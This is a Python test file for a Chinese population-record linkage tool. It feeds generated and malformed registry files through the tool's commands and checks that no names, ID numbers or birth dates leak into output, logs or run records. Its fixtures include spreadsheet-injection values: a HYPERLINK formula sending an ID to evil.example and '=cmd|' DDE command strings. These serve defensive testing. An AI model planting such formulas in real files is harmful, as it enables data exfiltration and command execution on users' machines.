"""No personal data in messages, logs or run records, whatever a delivery holds (issue 16).

A small generated county is delivered together with files that go wrong in the ways that once
put a person into the logs:

- a death file without a header row (its first row is a person: name, ID, birth date,
  address);
- a death file whose header row is partly a data row, and a 户籍 workbook whose first row is
  a data row above the header;
- hostile values: ``=HYPERLINK(…)`` and ``=cmd|…`` formulas, cells of 12,000 and 110,000
  characters, control characters (NUL, ESC, BEL, a right-to-left override, CR LF inside a
  cell), a name in the ID column and an ID in the name column, an ID as record key, a 15-digit
  ID, a name as a date and as a coded value;
- a returned task workbook with names and IDs typed into its cells, a renamed header cell
  and a batch sheet naming a person as township; 协查 query and answer files with an ID and a
  name as 协查编号, a name as county code.

They go through ``renkou ingest``, ``renkou run`` (the nightly flow under Prefect's test
harness, task lists and report included), ``renkou export links`` / ``export findings``,
``renkou tasks export`` / ``tasks import``, ``renkou exchange import``, ``renkou report``,
``renkou figures`` and ``renkou history`` (the list and one run).

Scanned, for every name and every ID number of the inbox (the generated county's too), every
14-digit fragment of an 18-digit ID, and the birth dates (``19561103``, ``1956-11-03``,
``561103``), addresses and hostile markers of the hand-made rows:

1. stdout and stderr of every command above;
2. every log record of every logger at DEBUG (``linkage``, ``prefect``, libraries), with its
   traceback;
3. in the DuckDB file, only the tables of messages and counts: ``load_ledger``, ``runs``,
   ``run_stages``, ``quarantine.reasons``, ``row_issues.rule``, ``task_imports``,
   ``exchange_files``;
4. ``HOME/audit/`` (the audit log), ``HOME/models/`` (the saved models) and
   ``HOME/runs/*.error.txt`` only for its mode: owner-only tracebacks may quote values;
5. every text column of every table of the Prefect database (the harness's SQLite file:
   flow and task runs and their states, logs, artifacts, events and their resources, …),
   once the night's final state and logs have reached it, and every other file under
   ``PREFECT_HOME``.

Not scanned, because carrying personal data is their purpose: the task workbooks, the CSV
exports, the report HTML and its viewers, the 协查 files, the archived originals
(``HOME/archive/``), the data tables of the DuckDB file and its snapshot.
"""

from __future__ import annotations

import datetime as dt
import logging
import re
import shutil
import sqlite3
import stat
import sys
import time
import traceback
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import xlsxwriter

from data_contracts import CONTRACTS
from data_contracts._base import column_meta
from linkage.cli._common import EXIT_OK, EXIT_REJECTED
from linkage.exchange.incoming import ANSWER_HEADERS
from linkage.exchange.outgoing import QUERY_HEADERS
from linkage.ingest.readers import SUFFIXES, read_any
from linkage.standardise.ids import check_char
from linkage.store import Store
from synth import generate_county
from tests.conftest import write_csv
from tests.headers import DEATH_HEADER, HUKOU_HEADER, POP_HEADER

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_harness")]

COUNTY = "433127"


def ident(birth: str, order: str, area: str = COUNTY) -> str:
    body = area + birth + order
    return body + check_char(body)


#: the hand-made persons: name → (ID, birth date yyyymmdd)
PEOPLE = {
    "欧阳雪梅": (ident("19561103", "264"), "19561103"),
    "宇文泰和": (ident("19530721", "151"), "19530721"),
    "诸葛明月": (ident("19591230", "082"), "19591230"),
    "皇甫云霞": (ident("19500409", "322"), "19500409"),
    "公孙绿萼": (ident("19520917", "428"), "19520917"),
    "东方不败": (ident("19570214", "371"), "19570214"),
    "慕容复": (ident("19550505", "513"), "19550505"),
    "上官婉儿": (ident("19580808", "626")[:-1] + "0", "19580808"),  # a wrong check digit
    "令狐冲冲": (ident("19560606", "735"), "19560606"),
    "独孤求败": (ident("19520202", "811"), "19520202"),
    "西门吹雪": (ident("19510101", "915"), "19510101"),
    "南宫燕": ("433127540618035", "19540618"),  # a 15-digit ID
    "呼延灼灼": (ident("19590317", "173"), "19590317"),
    "欧阳锋": (ident("19510712", "253"), "19510712"),
}
ID = {name: number for name, (number, _) in PEOPLE.items()}
ADDRESS = "永顺县灵溪镇欧阳巷八号"
HOSTILE = ("HYPERLINK", "evil.example", "/C calc", ADDRESS, "\u202e")


def iso(yyyymmdd: str) -> str:
    return f"{yyyymmdd[:4]}-{yyyymmdd[4:6]}-{yyyymmdd[6:]}"


def person(name: str, *, key: str, death: str = "2026-03-01", sex: str = "女") -> list[str]:
    number, birth = PEOPLE[name]
    return [key, name, sex, number, iso(birth), death, ADDRESS, "火化"]


# ------------------------------------------------------------------------- the inbox
def hostile_inbox(inbox: Path) -> None:
    """The files of the module docstring, beside the generated county's."""
    # (a) no header row: the first row is a person
    write_csv(
        inbox / "death" / "无表头_死亡.csv",
        person("欧阳雪梅", key="HA1"),
        [person("宇文泰和", key="HA2", sex="男")],
    )
    # (b) the header row is partly a data row (公民身份号码 and the columns after it)
    header = person("诸葛明月", key="记录编号")
    header[1:3] = ["姓名", "性别"]
    write_csv(inbox / "death" / "表头被覆盖.csv", header, [person("诸葛明月", key="HB1")])
    # (b) a workbook whose first row is a person above the header row
    book = xlsxwriter.Workbook(str(inbox / "hukou" / "户籍_首行是数据.xlsx"))
    sheet = book.add_worksheet("Sheet1")
    for r, row in enumerate(
        [
            ["HK0", "皇甫云霞", "", "女", ID["皇甫云霞"], "1950-04-09", "汉族", "H9", "户主"],
            HUKOU_HEADER,
            ["HK1", "公孙绿萼", "", "女", ID["公孙绿萼"], "1952-09-17", "汉族", "H9", "户主"],
        ]
    ):
        sheet.write_row(r, 0, row)
    sheet.write_datetime(0, 10, dt.datetime(1950, 4, 9))  # a date cell in the "header"
    book.close()
    # (c) hostile values in a well-formed death file
    town, village = _a_township(inbox)
    hyperlink = f'=HYPERLINK("http://evil.example/?q={ID["东方不败"]}","东方不败")'
    write_csv(
        inbox / "death" / "恶意值.csv",
        DEATH_HEADER,
        [
            [
                "HX1",
                hyperlink,
                "男",
                ID["东方不败"],
                "1957-02-14",
                "2026-03-01",
                "=cmd|' /C calc'!A0",
                "火化",
            ],
            [
                "HX2",
                "慕容复" * 4000,
                "男",
                ID["慕容复"],
                "1955-05-05",
                "2026-03-02",
                ADDRESS * 10_000,
                "火化",
            ],
            [
                "HX3",
                "上官婉儿\x1b[31m\x07\x08",
                "女",
                ID["上官婉儿"],
                "1958-08-08",
                "2026-13-45",
                "上官\u202e婉儿家",
                "火化",
            ],
            ["HX4", ID["令狐冲冲"], "男", "令狐冲冲", "1956-06-06", "2026-03-03", "", "火化"],
            [
                ID["独孤求败"],
                "独孤求败",
                "男",
                ID["独孤求败"],
                "1952-02-02",
                "2026-03-04",
                "",
                "火化",
            ],
            [
                "HX6",
                "西门吹雪\r\n第二行",
                "男",
                ID["西门吹雪"],
                "1951-01-01",
                "独孤求败",
                "",
                "火化",
            ],
            ["HX7", "南宫燕", "欧阳锋", ID["南宫燕"], "1954-06-18", "2026-03-05", "", "欧阳锋"],
            ["HX8", "呼延\x00灼灼", "男", ID["呼延灼灼"], "1959-03-17", "1959-03-16", "", "火化"],
            ["HX9", f"{ID['欧阳锋']}欧阳锋", "男", "", "1951-07-12", "2026-03-06", "", "火化"],
        ],
    )
    # base persons the hostile deaths link to (a suspected death each: a task)
    write_csv(
        inbox / "population" / "恶意值.csv",
        POP_HEADER,
        [
            [f"PX{i}", name, "男", ID[name], iso(PEOPLE[name][1]), "汉族", f"HX{i}", "户主"]
            + ["初婚", "农业", f"=cmd|' /C calc'!A0{ADDRESS}", "", town, village, "正常"]
            + ["2026-01-01"]
            for i, name in enumerate(["东方不败", "令狐冲冲", "独孤求败", "南宫燕"], start=1)
        ],
    )


def _a_township(inbox: Path) -> tuple[str, str]:
    frame, _ = read_any(sorted((inbox / "population").iterdir())[0])
    return frame["乡镇(街道)"][0], frame["村(社区)"][0]


def inbox_values(inbox: Path) -> tuple[set[str], set[str]]:
    """Every name and every ID number the inbox holds, by the contracts' column kinds."""
    names, ids = set(PEOPLE), set(ID.values())
    for folder in inbox.iterdir():
        contract = CONTRACTS[folder.name]
        kinds = {
            column_meta(c)["header"]: column_meta(c)["kind"]
            for c in contract.data_columns().values()
        }
        for path in folder.iterdir():
            if path.suffix.lower() not in SUFFIXES or path.stat().st_size == 0:
                continue
            try:
                frame, _ = read_any(path)
            except Exception:  # noqa: BLE001 - a file renkou cannot read either
                continue
            for header, kind in kinds.items():
                if header in frame.columns and kind in ("name", "id"):
                    values = frame[header].drop_nulls().str.strip_chars().to_list()
                    (names if kind == "name" else ids).update(v for v in values if v)
    names = {n for n in names if len(n) >= 2 and not n.isascii()}
    ids = {i for i in ids if len(i) >= 15 and i[:6].isdigit()}
    return names, ids


# ------------------------------------------------------------------------- the scan
class Needles:
    """What must not be found: names, IDs and their 14-digit fragments, birth dates."""

    def __init__(self, names: set[str], ids: set[str]) -> None:
        self.names = names
        self.lengths = sorted({len(n) for n in names})
        self.fragments = {i[k : k + 14] for i in ids if len(i) == 18 for k in range(5)}
        self.ids = ids
        self.literal = [*HOSTILE, *(n for n in PEOPLE if len(n) > 1)]
        self.dates = [
            re.compile(rf"(?<![0-9A-Za-z]){re.escape(form)}(?![0-9A-Za-z])")
            for _, birth in PEOPLE.values()
            for form in (birth, iso(birth), birth[2:])
        ]

    def found(self, text: str) -> list[str]:
        hits = {n for n in self.literal if n in text}
        for run in re.findall(r"[\u3400-\u9fff\U00020000-\U0002ffff·]{2,}", text):
            for size in self.lengths:
                hits.update(
                    run[i : i + size]
                    for i in range(len(run) - size + 1)
                    if run[i : i + size] in self.names
                )
        for run in re.findall(r"[0-9Xx]{14,}", text):
            hits.update(
                run[i : i + 14] for i in range(len(run) - 13) if run[i : i + 14] in self.fragments
            )
            hits.update(
                run[i : i + 15] for i in range(len(run) - 14) if run[i : i + 15] in self.ids
            )
        hits.update(p.pattern for p in self.dates if p.search(text))
        return sorted(hits)


def scan(texts: dict[str, str], needles: Needles) -> dict[str, list[str]]:
    """Where each text leaks, with what (an empty dict: nothing found)."""
    return {where: hits for where, text in texts.items() if (hits := needles.found(text))}


def duckdb_texts(home: Path) -> dict[str, str]:
    """The message and count tables of the DuckDB file (point 3 of the docstring)."""
    wanted = {
        "load_ledger": "*",
        "runs": "*",
        "run_stages": "*",
        "quarantine": "reasons",
        "row_issues": "rule",
        "task_imports": "*",
        "exchange_files": "*",
    }
    out = {}
    with Store(home) as store:
        for table, columns in wanted.items():
            if store.has_table(table):
                frame = store.frame(f"SELECT {columns} FROM {table}")
                out[f"duckdb {table}"] = frame.write_csv()
    return out


def prefect_database() -> Path:
    from prefect.settings import PREFECT_SERVER_DATABASE_CONNECTION_URL

    url = str(PREFECT_SERVER_DATABASE_CONNECTION_URL.value())
    return Path(url.split(":///", 1)[1])


def prefect_texts(database: Path, flow_run_id: str) -> dict[str, str]:
    """Every text column of every table of the Prefect database, once the night's final
    state event and its logs have reached it."""
    from prefect.events.worker import EventsWorker
    from prefect.logging.handlers import APILogWorker

    APILogWorker.drain_all()
    EventsWorker.drain_all()
    deadline = time.monotonic() + 90
    with sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=30) as con:
        while time.monotonic() < deadline:
            done = con.execute(
                "SELECT count(*) FROM events WHERE resource_id = ? AND event LIKE "
                "'prefect.flow-run.%' AND event IN ('prefect.flow-run.Completed', "
                "'prefect.flow-run.Failed')",
                [f"prefect.flow-run.{flow_run_id}"],
            ).fetchone()[0]
            logs = con.execute(
                "SELECT count(*) FROM log WHERE flow_run_id = ?", [flow_run_id]
            ).fetchone()[0]
            if done and logs:
                break
            time.sleep(1)
        else:
            pytest.fail("the night's final state never reached the Prefect database")
        time.sleep(3)  # what the persister still holds of the same batch
        out = {}
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for table in tables:
            columns = [r[1] for r in con.execute(f'PRAGMA table_info("{table}")')]
            parts = []
            for row in con.execute(f'SELECT * FROM "{table}"'):
                for column, value in zip(columns, row, strict=True):
                    if isinstance(value, bytes):
                        value = value.decode("utf-8", "replace")
                    if isinstance(value, str):
                        parts.append(f"{column}={value}")
            out[f"prefect {table}"] = "\n".join(parts)
    return out


def file_texts(root: Path, label: str) -> dict[str, str]:
    if not root.exists():
        return {}
    return {
        f"{label} {p.relative_to(root)}": p.read_bytes().decode("utf-8", "replace")
        for p in root.rglob("*")
        if p.is_file() and p.suffix not in (".db", ".db-wal", ".db-shm")
    }


# ------------------------------------------------------------------------- the commands
@pytest.fixture
def environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    configs = tmp_path / "configs"  # one key over the shipped defaults: training in seconds
    configs.mkdir()
    (configs / "renkou.toml").write_text("[linkage]\nu_max_pairs = 100_000\n", "utf-8")
    monkeypatch.setenv("RENKOU_CONFIG", str(configs))
    for name in ("RENKOU_HOME", "RENKOU_OPERATOR", "RENKOU_EXCHANGE_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("NO_COLOR", "1")
    yield


class Renkou:
    """``renkou ARGS…`` through ``linkage.cli.main()``, in this process; keeps what it said."""

    def __init__(self, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch):
        self.capsys, self.monkeypatch = capsys, monkeypatch
        self.said: dict[str, str] = {}

    def __call__(self, *args: str | Path) -> int:
        from linkage.cli import main

        self.monkeypatch.setattr(sys, "argv", ["renkou", *map(str, args)])
        self.capsys.readouterr()
        crash, code = "", EXIT_OK
        try:
            main()
        except SystemExit as done:
            code = done.code if isinstance(done.code, int) else (0 if done.code is None else 1)
        except Exception:  # noqa: BLE001 - what a user would see as a traceback
            code, crash = 1, traceback.format_exc()
        out = self.capsys.readouterr()
        label = f"{len(self.said) // 2} " + " ".join(str(a) for a in args[2:4])
        self.said[f"stdout of renkou {label}"] = out.out
        self.said[f"stderr of renkou {label}"] = out.err + crash
        return code


def hostile_return(workbook: Path, out: Path) -> list[Path]:
    """Three returned copies of ``workbook``: personal data typed into its cells; a header
    cell overwritten with an ID; a person named as the township of the batch sheet."""
    paths = []
    for n in range(3):
        book = openpyxl.load_workbook(workbook)
        for ws in book.worksheets:
            if ws.sheet_state != "visible":
                continue
            header = next((r for r in range(1, 11) if "任务编号" in [c.value for c in ws[r]]), None)
            if header is None:
                continue
            cols = {c.value: c.column for c in ws[header] if c.value}
            first = header + 1
            if n == 0:
                ws.cell(first, cols["核查结果"]).value = "欧阳雪梅"
                ws.cell(first, cols["核查说明"]).value = ID["欧阳雪梅"]
                ws.cell(first, cols["核查人"]).value = ID["宇文泰和"]
                ws.cell(first, cols["核查日期"]).value = "欧阳雪梅"
                ws.cell(first, cols["任务编号"]).value = ID["诸葛明月"]
                ws.cell(first + 1, cols["核查结果"]).value = "属实"
                ws.cell(first + 1, cols["核查日期"]).value = "2099-01-01"
            elif n == 1:
                ws.cell(header, cols["核查结果"]).value = ID["欧阳雪梅"]
            break
        if n == 2:
            meta = book["_renkou"]
            for row in meta.iter_rows():
                if row[0].value == "township":
                    row[1].value = "欧阳雪梅"
        path = out / f"返回_{n}_{workbook.name}"
        book.save(path)
        paths.append(path)
    return paths


def exchange_files(out: Path) -> list[Path]:
    """A query file and an answer file to this county with personal data where codes go."""
    row = dict.fromkeys(QUERY_HEADERS.values(), "")
    row.update(
        {
            "协查编号": "Q1",
            "发起地代码": "440106",
            "目标地代码": COUNTY,
            "协查类型": "死亡",
            "紧急程度": "急",
            "发起日期": "2026-06-10",
            "反馈期限": "2026-07-10",
            "姓名": "欧阳雪梅",
            "性别": "女",
            "公民身份号码": ID["欧阳雪梅"],
            "出生日期": "1956-11-03",
            "事由": "在本县死亡",
        }
    )
    rows = [
        dict(row),
        {**row, "协查编号": "Q2", "目标地代码": "430102"},
        {**row, "协查编号": ID["宇文泰和"], "发起地代码": "欧阳雪梅"},
        {**row, "协查编号": "Q4", "发起地代码": "440107"},
        {**row, "协查编号": "Q1", "姓名": "宇文泰和"},
    ]
    query = write_csv(
        out / f"协查_440106_{COUNTY}_202606.csv",
        list(QUERY_HEADERS.values()),
        [list(r.values()) for r in rows],
    )
    answer = write_csv(
        out / f"协查反馈_440106_{COUNTY}_202606.csv",
        list(ANSWER_HEADERS.values()),
        [
            [ID["宇文泰和"], "本县有此人", "正常", ADDRESS, "", "2026-06-20", "天河区"],
            ["欧阳雪梅", "本县有此人", "正常", "", "", "2026-06-20", "天河区"],
        ],
    )
    headerless = out / f"协查_440107_{COUNTY}_202606.csv"
    shutil.copy(query, headerless)
    headerless.write_text("\n".join(headerless.read_text("utf-8").splitlines()[1:]), "utf-8")
    return [query, answer, headerless]


# ------------------------------------------------------------------------- the test
def test_no_name_or_id_reaches_a_message_log_or_run_record(
    tmp_path: Path,
    environment: None,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    generate_county(persons=400, seed=16, out=tmp_path / "county")
    inbox = tmp_path / "county" / "inbox"
    hostile_inbox(inbox)
    names, ids = inbox_values(inbox)
    needles = Needles(names, ids)
    assert {"欧阳雪梅", "东方不败"} <= names and ID["欧阳雪梅"] in ids and len(names) > 100

    # Prefect configures logging when it is first imported, dropping the root's handlers:
    # import it now, then capture every logger at DEBUG from here on
    import prefect.main  # noqa: F401

    logging.getLogger().addHandler(caplog.handler)
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.DEBUG, logger="prefect")
    home, out = tmp_path / "home", tmp_path / "out"
    out.mkdir()
    renkou = Renkou(capsys, monkeypatch)

    assert renkou("--home", home, "ingest", "--inbox", inbox) == EXIT_REJECTED, renkou.said
    assert renkou("--home", home, "run", "--inbox", inbox) == EXIT_REJECTED, renkou.said
    for args in (
        ("export", "links", "--out", out / "links.csv"),
        ("export", "findings", "--out", out / "findings.csv"),
        ("tasks", "export", "--out", out / "tasks"),
        ("report",),
        ("figures",),
        ("history",),
    ):
        assert renkou("--home", home, *args) == EXIT_OK, renkou.said
    with Store(home) as store:
        run_id, flow_run_id = store.frame("SELECT run_id, flow_run_id FROM runs").row(0)
        rejected = store.frame("SELECT file, message FROM load_ledger WHERE status = 'rejected'")
    assert renkou("--home", home, "history", "--run", run_id) == EXIT_OK

    # what was refused says where and what was expected
    message = dict(rejected.iter_rows())
    assert "no header row" in message["无表头_死亡.csv"]
    assert "columns 1 to 8 of the header row" in message["无表头_死亡.csv"]
    assert "column 4, 5, 6, 7, 8" not in message["表头被覆盖.csv"]
    assert "columns 4 to 8 of the header row" in message["表头被覆盖.csv"]
    assert "死亡日期" in message["表头被覆盖.csv"]
    assert "row 2 holds the column names" in message["户籍_首行是数据.xlsx"]

    workbooks = sorted((home / "outbox" / run_id).glob("*.xlsx"))
    assert workbooks, "the night wrote no task list: nothing to return"
    returned = hostile_return(workbooks[0], tmp_path)
    assert renkou("--home", home, "tasks", "import", *returned) == 1  # rows refused
    assert renkou("--home", home, "exchange", "import", *exchange_files(tmp_path)) == 1

    texts = dict(renkou.said)
    for i, record in enumerate(caplog.records):
        try:
            text = record.getMessage()
        except Exception:  # noqa: BLE001 - a bad format string is still what was logged
            text = f"{record.msg} {record.args}"
        if record.exc_info:
            text += "".join(traceback.format_exception(*record.exc_info))
        texts[f"log {i} {record.name}"] = text
    texts.update(duckdb_texts(home))
    texts.update(file_texts(home / "audit", "audit"))
    texts.update(file_texts(home / "models", "models"))
    from prefect.settings import PREFECT_HOME

    texts.update(file_texts(Path(str(PREFECT_HOME.value())), "PREFECT_HOME"))
    texts.update(prefect_texts(prefect_database(), str(flow_run_id)))

    for trace in (home / "runs").glob("*.error.txt"):
        assert stat.S_IMODE(trace.stat().st_mode) == 0o600, trace

    # the scan sees what it looks for: the excluded outputs do carry the people
    assert needles.found(pl.read_csv(out / "findings.csv", infer_schema=False).write_csv())
    generated = next(n for n in sorted(names - set(PEOPLE)) if re.fullmatch(r"[一-龥]{2,3}", n))
    sample = f"x{ID['欧阳雪梅'][2:16]}x {generated} 1956-11-03"
    assert {ID["欧阳雪梅"][2:16], generated} <= set(needles.found(sample))

    leaks = scan(texts, needles)
    assert leaks == {}, "\n".join(
        f"{where}: {hits[:8]}\n    {_context(texts[where], hits[0])}"
        for where, hits in leaks.items()
    )


def _context(text: str, hit: str) -> str:
    at = max(text.find(hit), 0)
    return repr(text[max(at - 200, 0) : at + 200])
